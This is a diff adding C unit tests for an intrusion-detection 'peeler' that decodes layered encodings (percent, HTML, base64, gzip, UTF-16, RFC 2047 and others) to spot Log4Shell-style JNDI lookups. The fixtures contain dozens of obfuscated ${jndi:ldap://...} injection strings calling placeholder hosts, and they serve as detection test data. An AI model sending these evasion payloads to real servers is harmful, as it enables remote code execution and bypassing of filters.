@@ -1,0 +1,347 @@
+/* Tests of the peeler: which reading of an encoded text it takes, what it tells of it, and its
+ * limits. (test_peel_pairs.c has the bulk.) */
+#include "sensor/base/sbuf.h"
+#include "signatures/peel.h"
+#include "tests/unit/runner.h"
+
+#include <stdio.h>
+
+static struct peeler *peeler;
+static struct peel_result result;
+
+static int start(void)
+{
+    peeler = peeler_new();
+    return peeler == NULL;
+}
+
+static int end(void)
+{
+    peeler_free(&peeler);
+    return peeler != NULL;
+}
+
+static void peel_as(struct span text, struct peel_hints hints)
+{
+    (void)peel_and_evaluate(peeler, text, &hints, &result);
+}
+
+static void peel(struct span text)
+{
+    peel_as(text, (struct peel_hints){0});
+}
+
+static bool name_is(const char *name)
+{
+    return result.lookup.n_names > 0 && span_equal(result.lookup.names[0].text, span_str(name));
+}
+
+static bool encodings_are(const char *expected)
+{
+    struct sbuf out = sbuf_with_cap(512);
+    for (size_t i = 0; i < result.encodings.n; i++) {
+        sbuf_add_str(&out, i > 0 ? " " : "");
+        sbuf_add_str(&out, encoding_name((enum encoding)result.encodings.ids[i]));
+    }
+    bool equal = span_equal(sbuf_span(&out), span_str(expected));
+    if (!equal) {
+        printf("encodings: %.*s\n", (int)out.len, (const char *)out.data);
+    }
+    sbuf_free(&out);
+    return equal;
+}
+
+static bool raw_is(struct span text, const char *expected)
+{
+    struct span raw = span_sub(text, result.raw_off, result.raw_len);
+    bool equal = span_equal(raw, span_str(expected));
+    if (!equal) {
+        printf("raw: %.*s\n", (int)raw.len, (const char *)raw.data);
+    }
+    return equal;
+}
+
+struct row {
+    struct span text;
+    const char *name;
+    const char *encodings;
+    const char *raw;
+};
+
+static void check_rows(const struct row *rows, size_t n)
+{
+    for (size_t i = 0; i < n; i++) {
+        peel(rows[i].text);
+        bool right = result.lookup.class == LOOKUP_ATTACK && name_is(rows[i].name) &&
+                     encodings_are(rows[i].encodings) && raw_is(rows[i].text, rows[i].raw) &&
+                     !result.lookup.over_budget;
+        if (!right) {
+            printf("%.*s\n", (int)rows[i].text.len, (const char *)rows[i].text.data);
+        }
+        CU_ASSERT(right);
+    }
+}
+
+static void what_asks_is_not_peeled(void)
+{
+    static const struct row rows[] = {
+        {SPAN_LITERAL("x ${jndi:ldap://h/%41+&amp;\\u0041} y"), "ldap://h/%41+&amp;\\u0041", "",
+         "${jndi:ldap://h/%41+&amp;\\u0041}"},
+        {SPAN_LITERAL("${jndi:ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=}"),
+         "ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=", "",
+         "${jndi:ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=}"},
+    };
+    check_rows(rows, ARRAY_LEN(rows));
+}
+
+static void layers_of_escapes(void)
+{
+    static const struct row rows[] = {
+        {SPAN_LITERAL("/?q=%24%7Bjndi:ldap://h/a%7D&x=%20"), "ldap://h/a", "percent",
+         "%24%7Bjndi:ldap://h/a%7D"},
+        {SPAN_LITERAL("%252524%25257bjndi:x:y%25257d"), "x:y", "percent percent percent",
+         "%252524%25257bjndi:x:y%25257d"},
+        {SPAN_LITERAL("%u0024%7bjndi:x:y}"), "x:y", "percent percent-u", "%u0024%7bjndi:x:y}"},
+        {SPAN_LITERAL("%2524%7bjndi:x:y}"), "x:y", "percent percent", "%2524%7bjndi:x:y}"},
+        {SPAN_LITERAL("a &#36;&lbrace;jndi:x:y&rcub b"), "x:y", "html",
+         "&#36;&lbrace;jndi:x:y&rcub"},
+        {SPAN_LITERAL("{\"a\":\"\\u0024{jndi:ldap:\\/\\/h\\/a}\"}"), "ldap://h/a",
+         "json-unicode js-escape", "\\u0024{jndi:ldap:\\/\\/h\\/a}"},
+        {SPAN_LITERAL("\\x24\\173jndi:x:y}"), "x:y", "js-escape", "\\x24\\173jndi:x:y}"},
+        {SPAN_LITERAL("=24=7Bjndi:x:y=7D"), "x:y", "quoted-printable", "=24=7Bjndi:x:y=7D"},
+        {SPAN_LITERAL("a ${jn=\r\ndi:x:=\r\ny} b"), "x:y", "quoted-printable",
+         "${jn=\r\ndi:x:=\r\ny}"},
+        {SPAN_LITERAL("\xc0\xa4\xc1\xbbjndi:x:y}"), "x:y", "overlong", "\xc0\xa4\xc1\xbbjndi:x:y}"},
+        {SPAN_LITERAL("%c0%a4{jndi:x:y}"), "x:y", "percent overlong", "%c0%a4{jndi:x:y}"},
+        {SPAN_LITERAL("%24\\u007Bjndi:x:y}"), "x:y", "percent json-unicode", "%24\\u007Bjndi:x:y}"},
+        {SPAN_LITERAL("${jnd${upper:%C4%B1}:x:y}"), "x:y", "percent", "${jnd${upper:%C4%B1}:x:y}"},
+        {SPAN_LITERAL("${jndi%3ax:y}"), "x:y", "percent", "${jndi%3ax:y}"},
+        {SPAN_LITERAL("${${::-j}%6edi:x:y}"), "x:y", "percent", "${${::-j}%6edi:x:y}"},
+    };
+    check_rows(rows, ARRAY_LEN(rows));
+}
+
+static void layers_as_a_whole(void)
+{
+    static const struct row rows[] = {
+        {SPAN_LITERAL("=?utf-8?Q?=24{jndi:x:y}?="), "x:y", "rfc2047", "=?utf-8?Q?=24{jndi:x:y}?="},
+        {SPAN_LITERAL("=?utf-8?B?JHtq?= =?utf-8?B?bmRpOng6eX0=?="), "x:y", "rfc2047",
+         "=?utf-8?B?JHtq?= =?utf-8?B?bmRpOng6eX0=?="},
+        {SPAN_LITERAL("=?ibm037?Q?=5B=C0=91=95=84=89=7A=A7=7A=A8=D0?="), "x:y", "rfc2047",
+         "=?ibm037?Q?=5B=C0=91=95=84=89=7A=A7=7A=A8=D0?="},
+        {SPAN_LITERAL("utf-8'en'%24%7Bjndi:x:y%7D"), "x:y", "rfc2231",
+         "utf-8'en'%24%7Bjndi:x:y%7D"},
+        {SPAN_LITERAL("a+ACQAew-jndi:x:y+AH0-"), "x:y", "utf-7", "a+ACQAew-jndi:x:y+AH0-"},
+        {SPAN_LITERAL("a\0$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}\0b\0"), "x:y", "utf-16", NULL},
+        {SPAN_LITERAL("\xfe\xff\0$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}"), "x:y", "utf-16", NULL},
+        {SPAN_LITERAL("q=abc$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}\0&r=abcdefghijklmnopqrst"), "x:y",
+         "utf-16", NULL},
+    };
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        peel(rows[i].text);
+        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTACK);
+        CU_ASSERT(name_is(rows[i].name));
+        CU_ASSERT(encodings_are(rows[i].encodings));
+        struct span raw = span_sub(rows[i].text, result.raw_off, result.raw_len);
+        struct span utf16 = SPAN("$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}");
+        CU_ASSERT(rows[i].raw != NULL
+                      ? raw_is(rows[i].text, rows[i].raw)
+                      : span_find(raw, 0, utf16) != SPAN_NONE && raw.len <= utf16.len + 1);
+    }
+}
+
+static void base64_alone_and_in_its_place(void)
+{
+    static const struct row rows[] = {
+        {SPAN_LITERAL("user=JHtqbmRpOng6eX0=; a"), "x:y", "base64", "JHtqbmRpOng6eX0="},
+        {SPAN_LITERAL("/path/JHtqbmRpOng6eX0/more"), "x:y", "base64", "JHtqbmRpOng6eX0/"},
+        {SPAN_LITERAL("JHtqbmRpOng6Pz8_Pn0"), "x:??\?>", "base64url", "JHtqbmRpOng6Pz8_Pn0"},
+        /* Only its beginning is base64: it asks in its place, not alone. */
+        {SPAN_LITERAL("JHtqbmRpOg==x:y}"), "x:y", "base64", "JHtqbmRpOg==x:y}"},
+    };
+    check_rows(rows, ARRAY_LEN(rows));
+    peel(SPAN("JHtqbmRpOmxkYXA6Ly9o"));
+    CU_ASSERT(result.lookup.class == LOOKUP_CONDITIONAL && encodings_are("base64"));
+}
+
+static void base64_of_gzip(void)
+{
+    peel(SPAN("H4sIAAAAAAACA1OpzspLybTK")); /* cut short: what could be inflated is looked at */
+    CU_ASSERT(result.lookup.class != LOOKUP_ATTACK);
+    struct span zipped =
+        SPAN("H4sIAAAAAAACA1OpzspLybTKSUkssNLXNzIw1jPQMzQ01rPUr8osKEhNqQUArAZScCEAAAA=");
+    peel(zipped);
+    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && name_is("ldap://203.0.113.9/zipped"));
+    CU_ASSERT(encodings_are("base64 gzip"));
+    CU_ASSERT_EQUAL(result.raw_len, zipped.len);
+}
+
+static void base64_over_other_layers(void)
+{
+    /* base64 of "%24%7Bjndi:x:y%7D", and of base64 of "${jndi:x:y}" */
+    peel(SPAN("JTI0JTdCam5kaTp4OnklN0Q="));
+    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("base64 percent"));
+    peel(SPAN("Skh0cWJtUnBPbmc2ZVgwPQ=="));
+    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("base64 base64"));
+    /* and of UTF-16, as some shells want it */
+    peel(SPAN("JAB7AGoAbgBkAGkAOgBsAGQAYQBwADoALwAvAGgALwBhAH0A"));
+    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("base64 utf-16"));
+}
+
+static void values_are_read_as_their_reader_does(void)
+{
+    struct peel_hints form = {.item = SPAN("form.q")};
+    struct peel_hints query = {.field = FIELD_HTTP_URI_PARAM, .item = SPAN("q")};
+    struct peel_hints json = {.item = SPAN("json.a.b")};
+    struct peel_hints xml = {.item = SPAN("xml.note")};
+    peel_as(SPAN("${jndi:x:a+b%20c}"), form);
+    CU_ASSERT(name_is("x:a b c") && encodings_are("percent plus"));
+    peel_as(SPAN("${jndi:x:a+b}"), query);
+    CU_ASSERT(name_is("x:a b") && encodings_are("plus"));
+    peel_as(SPAN("${jndi:ldap:\\/\\/h\\/a}"), json);
+    CU_ASSERT(name_is("ldap://h/a") && encodings_are("js-escape"));
+    peel_as(SPAN("${jndi:x:a&amp;b}"), xml);
+    CU_ASSERT(name_is("x:a&b") && encodings_are("html"));
+    CU_ASSERT(raw_is(SPAN("${jndi:x:a&amp;b}"), "${jndi:x:a&amp;b}"));
+    /* What a decoder has undone is not undone again. */
+    query.layers = encodings_with(query.layers, ENCODING_PERCENT);
+    peel_as(SPAN("${jndi:x:a+b%41}"), query);
+    CU_ASSERT(name_is("x:a+b%41") && encodings_are(""));
+}
+
+/* A reader's reading that shows nothing does not hide the value as it was sent. */
+static void values_are_also_read_as_sent(void)
+{
+    struct peel_hints form = {.item = SPAN("form.q")};
+    struct span text = SPAN("JHtqbmRpOng6Pj4+PiJ9"); /* ${jndi:x:>>>>"} */
+    peel_as(text, form);
+    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && name_is("x:>>>>\""));
+    CU_ASSERT(encodings_are("base64"));
+}
+
+static void the_best_class_is_taken(void)
+{
+    /* As it stands it is conditional, decoded it asks. */
+    peel(SPAN("${jndi:x:y%7d"));
+    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("percent"));
+    peel(SPAN("%24%7Bjndi:x:y"));
+    CU_ASSERT(result.lookup.class == LOOKUP_CONDITIONAL && encodings_are("percent"));
+    CU_ASSERT(raw_is(SPAN("%24%7Bjndi:x:y"), "%24%7Bjndi:x:y"));
+    peel(SPAN("%23%7Bjndi:x:y%7d"));
+    CU_ASSERT(result.lookup.class == LOOKUP_ATTEMPT && encodings_are("percent"));
+    peel(SPAN("#{jndi:a} %24%7Bjndi:x:y%7d"));
+    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("percent"));
+}
+
+static void harmless_texts(void)
+{
+    static const struct span rows[] = {
+        SPAN_LITERAL(""),
+        SPAN_LITERAL("GET /a?b=%7B%22c%22%3A%24%7Bd%7D%7D&e=%2520%253D+%26amp%3B HTTP/1.1"),
+        SPAN_LITERAL("{\"html\":\"\\u003cb\\u003e${name}\\u003c/b\\u003e \\u0026 \\\\d+\"}"),
+        SPAN_LITERAL("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2ln"),
+        SPAN_LITERAL("jndi, ldap and ${other} things; java:comp/env/jndi"),
+        SPAN_LITERAL("${jndi.name} &dollar;{x} =24 +AC \xc3\xa9"),
+    };
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        peel(rows[i]);
+        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_NONE);
+        CU_ASSERT_FALSE(result.lookup.over_budget);
+        CU_ASSERT_EQUAL(result.raw_len, 0);
+    }
+    CU_ASSERT_FALSE(peel_may_hide(rows[0]));
+    CU_ASSERT_FALSE(peel_may_hide(SPAN("an ordinary line, 100% of it, a=b&c=d, ${x} ${y:-z}")));
+    CU_ASSERT(peel_may_hide(SPAN("${jndi:")));
+}
+
+static void layers_are_capped(void)
+{
+    struct sbuf text = sbuf_with_cap(4096);
+    struct sbuf next = sbuf_with_cap(4096);
+    sbuf_add_str(&text, "%24{jndi:x:y}");
+    for (unsigned layers = 1; layers <= PEEL_LAYERS_MAX + 1; layers++) {
+        peel(sbuf_span(&text));
+        bool found = result.lookup.class == LOOKUP_ATTACK;
+        CU_ASSERT_EQUAL(found, layers <= PEEL_LAYERS_MAX);
+        CU_ASSERT(!found || result.encodings.n == layers);
+        sbuf_reset(&next);
+        sbuf_add_str(&next, "%25");
+        sbuf_add(&next, span_from(sbuf_span(&text), 1));
+        sbuf_reset(&text);
+        sbuf_add(&text, sbuf_span(&next));
+    }
+    sbuf_free(&text);
+    sbuf_free(&next);
+}
+
+/* Six layers that can each be undone first, over and over: more readings than there is room for. */
+static void decoys_use_up_the_budget_and_it_says_so(void)
+{
+    struct sbuf text = sbuf_with_cap(4096);
+    for (unsigned i = 0; i < 6; i++) {
+        sbuf_add_str(&text, "%2525252525 &amp;amp;amp;amp;amp; \\\\\\\\\\\\\\\\u0031 =3D3D3D3D31 ");
+    }
+    sbuf_add_str(&text, "${ jndi :x:y}");
+    peel(sbuf_span(&text));
+    CU_ASSERT(result.lookup.over_budget);
+    CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTEMPT);
+    sbuf_free(&text);
+}
+
+static void fuel_is_shared_and_runs_out(void)
+{
+    uint64_t fuel = PEEL_FUEL;
+    struct peel_hints hints = {.fuel = &fuel};
+    peel_as(SPAN("%24%7Bjndi:x:y%7D"), hints);
+    CU_ASSERT(fuel < PEEL_FUEL && result.lookup.class == LOOKUP_ATTACK);
+    fuel = 20;
+    peel_as(SPAN("%24%7Bjndi:x:y%7D"), hints);
+    CU_ASSERT(result.lookup.over_budget);
+    CU_ASSERT_EQUAL(fuel, 0);
+}
+
+static void gate_patterns_are_found_in_what_they_are_for(void)
+{
+    CU_ASSERT(peel_gate_n_patterns() > 100);
+    for (size_t i = 0; i < peel_gate_n_patterns(); i++) {
+        CU_ASSERT(peel_gate_pattern(i).text.len > 2);
+        CU_ASSERT_FALSE(peel_gate_pattern(i).literal);
+    }
+}
+
+static CU_TestInfo layer_tests[] = {
+    {"what asks is not peeled", what_asks_is_not_peeled},
+    {"layers of escapes", layers_of_escapes},
+    {"layers as a whole", layers_as_a_whole},
+    {"base64, alone and in its place", base64_alone_and_in_its_place},
+    {"base64 of gzip", base64_of_gzip},
+    {"base64 over other layers", base64_over_other_layers},
+    CU_TEST_INFO_NULL,
+};
+
+static CU_TestInfo choice_tests[] = {
+    {"values are read as their reader does", values_are_read_as_their_reader_does},
+    {"values are also read as sent", values_are_also_read_as_sent},
+    {"the best class is taken", the_best_class_is_taken},
+    {"harmless texts", harmless_texts},
+    CU_TEST_INFO_NULL,
+};
+
+static CU_TestInfo limit_tests[] = {
+    {"layers are capped", layers_are_capped},
+    {"decoys use up the budget and it says so", decoys_use_up_the_budget_and_it_says_so},
+    {"fuel is shared and runs out", fuel_is_shared_and_runs_out},
+    {"gate patterns are there", gate_patterns_are_found_in_what_they_are_for},
+    CU_TEST_INFO_NULL,
+};
+
+int main(void)
+{
+    CU_SuiteInfo suites[] = {
+        {"layers", start, end, NULL, NULL, layer_tests},
+        {"choice", start, end, NULL, NULL, choice_tests},
+        {"limits", start, end, NULL, NULL, limit_tests},
+        CU_SUITE_INFO_NULL,
+    };
+    return run_suites(suites);
+}
